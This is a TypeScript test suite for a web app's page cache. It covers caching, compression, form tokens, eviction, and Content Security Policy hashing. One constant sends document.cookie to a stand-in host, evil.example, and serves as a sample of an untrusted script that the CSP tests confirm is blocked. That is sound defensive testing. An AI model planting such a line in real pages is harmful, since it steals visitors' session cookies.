import { createHash } from "node:crypto";
import { brotliDecompressSync, gunzipSync } from "node:zlib";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FORM_TOKEN_PLACEHOLDER } from "../../common/leads/spam-fields";
import { contentSecurityPolicy } from "../plugins/security";
import { bearer, postBody, signIn } from "../test/content";
import { buildTestApp, TEST_DATABASES } from "../test/harness";
import {
  createPageCache,
  inlineScriptHashes,
  PAGE_CACHE_NONCE,
  type RenderedPage,
  sendCachedPage,
  sendUncachedPage,
} from "./page-cache";

const THEME_SCRIPT = "document.documentElement.dataset.theme='dark'";
/** An inline script the app did not write (say, in a post's content): never trusted. */
const JSON_LD = '{"@context":"https://schema.org","@type":"Organization"}';
const CONTENT_SCRIPT = "fetch('https://evil.example/?'+document.cookie)";
const STYLESHEET =
  '<style data-stylesheet="/assets/app-1.css">.popup{font-weight:700}.admin-table{width:100%}</style>';
const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;

describe.each(TEST_DATABASES)("page cache (%s)", (kind) => {
  let app: FastifyInstance;
  let token: string;
  let renders: string[] = [];
  /** What the next render answers instead of a page. */
  let override: Partial<RenderedPage> | undefined;
  /** Runs inside the next render (an admin's write landing mid-render). */
  let duringRender: (() => void) | undefined;
  let pageCache: ReturnType<typeof createPageCache>;
  let rendersNow = 0;
  let peakRenders = 0;

  beforeAll(async () => {
    app = await buildTestApp(kind);
    const cache = createPageCache({
      buildId: "build-1",
      content: app.services.contentVersion,
      policy: (hashes) => contentSecurityPolicy(app.config, hashes),
      maxBytes: 64 * 1024,
      isKnownPath: (path) => !path.includes("made-up") && !path.includes("anything"),
      isCatchAll: (path) => path.startsWith("/page/anything-"),
      maxConcurrentRenders: 2,
      // A page that shows the active popup and the posts, like the real ones do.
      render: async (path, consent) => {
        renders.push(`${path} ${consent}`);
        rendersNow += 1;
        peakRenders = Math.max(peakRenders, rendersNow);
        await new Promise((resolve) => setTimeout(resolve, 1));
        rendersNow -= 1;
        duringRender?.();
        duringRender = undefined;
        const popup = await app.services.popups.active();
        const posts = await app.services.blog.list();
        const body = `<!DOCTYPE html><html><head><script nonce="${PAGE_CACHE_NONCE}">${THEME_SCRIPT}</script>${STYLESHEET}</head><body>
          <p class="popup">${popup?.title ?? "no popup"}</p><ul>${posts.map((p) => `<li>${p.title}</li>`).join("")}</ul>
          <p>consent: ${consent}</p>${path.includes("form") ? `<form method="post"><input type="hidden" name="formToken" value="${FORM_TOKEN_PLACEHOLDER}"></form>` : ""}${"<p>filler</p>".repeat(path.includes("large") ? 20_000 : path.includes("medium") ? 2_000 : 1)}
          <div class="post"><script>${CONTENT_SCRIPT}</script></div>
          <script type="application/ld+json" nonce="${PAGE_CACHE_NONCE}">${JSON_LD}</script>
          <script type="module" nonce="${PAGE_CACHE_NONCE}">import("/assets/entry.js")</script></body></html>`;
        return {
          status: 200,
          headers: new Headers({ "content-type": "text/html; charset=utf-8" }),
          body: Buffer.from(body),
          ...override,
        };
      },
    });
    pageCache = cache;
    app.get("/page/*", async (request, reply) => {
      const cached = await cache.lookup(request);
      if (cached && "uncached" in cached) return sendUncachedPage(reply, cached.uncached);
      if (cached)
        return sendCachedPage(request, reply, cached.page, cached.hit, await app.services.spam.tokenIssuer());
      return reply.header("x-page-cache", "bypass").send("rendered for this visitor alone");
    });
    token = await signIn(app);
  });
  afterAll(() => app.close());

  const get = (url: string, headers: Record<string, string> = {}) =>
    app.inject({ method: "GET", url, headers: { "accept-encoding": "br", ...headers } });
  const html = (res: { rawPayload: Buffer; headers: Record<string, unknown> }) =>
    res.headers["content-encoding"] === "br"
      ? brotliDecompressSync(res.rawPayload).toString()
      : res.headers["content-encoding"] === "gzip"
        ? gunzipSync(res.rawPayload).toString()
        : res.rawPayload.toString();

  it("renders a page once: the second anonymous request is served from memory", async () => {
    renders = [];
    const first = await get("/page/once");
    const second = await get("/page/once");
    expect(first.headers["x-page-cache"]).toBe("miss");
    expect(second.headers["x-page-cache"]).toBe("hit");
    expect(renders).toEqual(["/page/once "]);
    expect(html(second)).toBe(html(first));
  });

  it("gives a kept page with a form a fresh token in each response, without rendering it again", async () => {
    renders = [];
    const tokenOf = (res: Awaited<ReturnType<typeof get>>) =>
      /name="formToken" value="([^"]*)"/.exec(html(res))?.[1] ?? "";
    const first = await get("/page/form");
    const second = await get("/page/form", { "accept-encoding": "gzip" });
    const third = await get("/page/form", { "accept-encoding": "identity" });
    expect(renders).toEqual(["/page/form "]);
    expect(second.headers["x-page-cache"]).toBe("hit");
    const tokens = [first, second, third].map(tokenOf);
    expect(new Set(tokens).size).toBe(3);
    for (const [i, res] of [first, second, third].entries()) {
      expect(html(res)).not.toContain(FORM_TOKEN_PLACEHOLDER);
      // Signed as it was served: "too fast" counts from this response.
      expect(Date.now() - Number(tokens[i].split(".")[0])).toBeLessThan(5_000);
      // Never kept by the browser nor revalidated into an old copy (whose token may be spent).
      expect(res.headers["cache-control"]).toBe("no-store");
      expect(res.headers.etag).toBeUndefined();
      // The inline scripts are untouched: the same policy as the page without a form.
      expect(res.headers["content-security-policy"]).toContain(sha256(THEME_SCRIPT));
    }
    expect(second.headers["content-encoding"]).toBe("gzip");
    expect(third.headers["content-encoding"]).toBeUndefined();
  });

  it("compresses a page with a form in a 64 KB window as it serves it (brotli's tables about 1 MB, not 30)", async () => {
    const res = await get("/page/form-medium");
    expect(res.headers["content-encoding"]).toBe("br");
    // A brotli stream's first bit says its window: 0 is 16 bits (64 KB); 4 MB, the default, is 1.
    expect(res.rawPayload[0] & 1).toBe(0);
    expect(html(res)).toContain("<p>filler</p>".repeat(2_000));
  });

  it("answers a 404 render as it is: rendered once per request, never kept", async () => {
    renders = [];
    override = { status: 404 };
    const first = await get("/page/missing-post");
    override = undefined;
    expect(first.statusCode).toBe(404);
    expect(first.headers["x-page-cache"]).toBe("uncached");
    expect(first.headers["content-security-policy"]).toContain(sha256(THEME_SCRIPT));
    expect(renders).toEqual(["/page/missing-post "]); // not rendered a second time for the visitor
    const again = await get("/page/missing-post");
    expect(again.statusCode).toBe(200); // the next request renders afresh: nothing was kept
    expect(renders).toHaveLength(2);
  });

  it("keeps no page for a path that cannot exist, so a flood of them evicts nothing", async () => {
    await get("/page/real");
    const before = pageCache.stats();
    renders = [];
    const flood = await Promise.all(Array.from({ length: 40 }, (_, i) => get(`/page/made-up-${i}`)));
    expect(flood.map((res) => res.headers["x-page-cache"])).toEqual(Array(40).fill("bypass"));
    expect(renders).toEqual([]); // rendered for each visitor by the page handler, not for the cache
    expect((await get("/page/real")).headers["x-page-cache"]).toBe("hit");
    expect(pageCache.stats()).toMatchObject({ entries: before.entries, bytes: before.bytes });
  });

  it("answers every path of the catch-all from one entry, rendered once", async () => {
    renders = [];
    const first = await get("/page/anything-1");
    const rest = await Promise.all(Array.from({ length: 20 }, (_, i) => get(`/page/anything-${i + 2}`)));
    expect(first.headers["x-page-cache"]).toBe("miss");
    expect(rest.map((res) => res.headers["x-page-cache"])).toEqual(Array(20).fill("hit"));
    expect(renders).toEqual(["/page/anything-1 "]);
  });

  it("renders at most maxConcurrentRenders pages for the cache at once", async () => {
    peakRenders = 0;
    await Promise.all(Array.from({ length: 12 }, (_, i) => get(`/page/concurrent-${i}`)));
    expect(peakRenders).toBe(2);
  });

  it("keeps each page with its inlined stylesheet cut to the rules its elements use", async () => {
    const page = html(await get("/page/styled"));
    expect(page).toContain(
      '<style data-stylesheet="/assets/app-1.css" data-critical="">.popup{font-weight:700}</style>',
    );
    expect(page).not.toContain("admin-table");
  });

  it("renders a burst of first visitors once", async () => {
    renders = [];
    const answers = await Promise.all(Array.from({ length: 10 }, () => get("/page/burst")));
    expect(answers.map((res) => res.statusCode)).toEqual(Array(10).fill(200));
    expect(renders).toEqual(["/page/burst "]);
  });

  it("shows a popup or post change on the next request", async () => {
    await get("/page/news");
    const created = await app.inject({
      method: "POST",
      url: "/api/admin/popup-message",
      headers: bearer(token),
      payload: { title: "Cached popup change", content: "Body" },
    });
    await app.inject({
      method: "PUT",
      url: `/api/admin/activate-popup/${created.json().data._id}`,
      headers: bearer(token),
    });
    expect(html(await get("/page/news"))).toContain("Cached popup change");
    const post = await app.inject({
      method: "POST",
      url: "/api/admin",
      headers: bearer(token),
      payload: { ...postBody(1), title: "A post the cache must show" },
    });
    expect(post.statusCode).toBe(201);
    expect(html(await get("/page/news"))).toContain("A post the cache must show");
    await app.inject({
      method: "DELETE",
      url: `/api/admin/${post.json().result._id}`,
      headers: bearer(token),
    });
    expect(html(await get("/page/news"))).not.toContain("A post the cache must show");
  });

  it("keys on the consent answer; other queries, admin paths and sessions bypass", async () => {
    renders = [];
    expect(html(await get("/page/c", { cookie: "cookie_consent=accepted" }))).toContain("consent: accepted");
    expect(html(await get("/page/c", { cookie: "cookie_consent=rejected" }))).toContain("consent: rejected");
    expect(html(await get("/page/c", { cookie: "cookie_consent=whatever; other=1" }))).toContain(
      "consent: <",
    );
    // `page` means nothing on a page that is not the paged list: that page's own entry answers.
    expect((await get("/page/c?page=2")).headers["x-page-cache"]).toBe("hit");
    expect((await get("/page/c?page=0002")).headers["x-page-cache"]).toBe("hit");
    expect(renders).toHaveLength(3);
    for (const [url, headers] of [
      ["/page/c?search=compost", {}],
      ["/page/c?page=2&sort=new", {}],
      ["/page/c", { cookie: "admin_auth=anything" }],
      ["/page/c", bearer(token)],
    ] as const) {
      expect((await get(url, headers)).headers["x-page-cache"], url).toBe("bypass");
    }
    const head = await app.inject({ method: "HEAD", url: "/page/c" });
    expect(head.headers["x-page-cache"]).toBe("hit");
    expect(head.body).toBe("");
    expect(renders).toHaveLength(3);
  });

  it("answers 304 to a current ETag or Last-Modified, and each encoding from one stored copy", async () => {
    const first = await get("/page/etag");
    const etag = String(first.headers.etag);
    expect((await get("/page/etag", { "if-none-match": etag })).statusCode).toBe(304);
    expect((await get("/page/etag", { "if-none-match": `W/${etag}` })).statusCode).toBe(304);
    expect((await get("/page/etag", { "if-none-match": '"other"' })).statusCode).toBe(200);
    const since = String(first.headers["last-modified"]);
    expect((await get("/page/etag", { "if-modified-since": since })).statusCode).toBe(304);
    const gzip = await get("/page/etag", { "accept-encoding": "gzip" });
    const plain = await get("/page/etag", { "accept-encoding": "identity" });
    expect(gzip.headers["content-encoding"]).toBe("gzip");
    expect(plain.headers["content-encoding"]).toBeUndefined();
    expect(html(gzip)).toBe(html(first));
    expect(html(plain)).toBe(html(first));
  });

  it("allows exactly the app's own inline scripts by hash, with no nonce, and no other inline script (JSON-LD is data: no hash)", async () => {
    const res = await get("/page/csp");
    const csp = String(res.headers["content-security-policy"]);
    const scriptSrc = csp.split(";").find((d) => d.startsWith("script-src")) ?? "";
    const hashes = scriptSrc.split(" ").filter((s) => s.startsWith("'sha256-"));
    expect(hashes).toEqual([sha256(THEME_SCRIPT), sha256('import("/assets/entry.js")')]);
    expect(scriptSrc).not.toMatch(/nonce|unsafe-inline/);
    expect(hashes).not.toContain(sha256(CONTENT_SCRIPT));
    expect(inlineScriptHashes(html(res))).toContain(sha256(CONTENT_SCRIPT)); // it is in the page
    expect(html(res)).not.toContain(PAGE_CACHE_NONCE); // the render's marks are removed
  });

  it("keeps no error page, no page that sets a cookie, and nothing rendered while content changed", async () => {
    for (const answer of [
      { status: 404 },
      { headers: new Headers({ "content-type": "text/html", "set-cookie": "a=b" }) },
    ]) {
      override = answer;
      renders = [];
      await get("/page/odd");
      override = undefined;
      expect((await get("/page/odd")).headers["x-page-cache"]).toBe("miss");
      expect(renders).toHaveLength(2);
      await get("/page/next"); // and reset for the next case
      app.services.contentVersion.bump();
    }
    // A write during the render: the page is served once, not kept.
    renders = [];
    override = undefined;
    duringRender = () => app.services.contentVersion.bump();
    expect((await get("/page/race")).headers["x-page-cache"]).toBe("miss");
    expect((await get("/page/race")).headers["x-page-cache"]).toBe("miss");
  });

  it("stays within its byte budget, dropping the least recently used pages", async () => {
    app.services.contentVersion.bump();
    renders = [];
    await get("/page/medium-a"); // about 26 KB each, raw and compressed: two fit in 64 KB
    await get("/page/medium-b");
    await get("/page/medium-a"); // a is now the most recently used
    await get("/page/medium-c"); // b goes
    expect((await get("/page/medium-a")).headers["x-page-cache"]).toBe("hit");
    expect((await get("/page/medium-b")).headers["x-page-cache"]).toBe("miss");
    await get("/page/large"); // about 260 KB: bigger than the whole budget, never kept
    expect((await get("/page/large")).headers["x-page-cache"]).toBe("miss");
    expect(renders).toEqual([
      "/page/medium-a ",
      "/page/medium-b ",
      "/page/medium-c ",
      "/page/medium-b ",
      "/page/large ",
      "/page/large ",
    ]);
  });
});
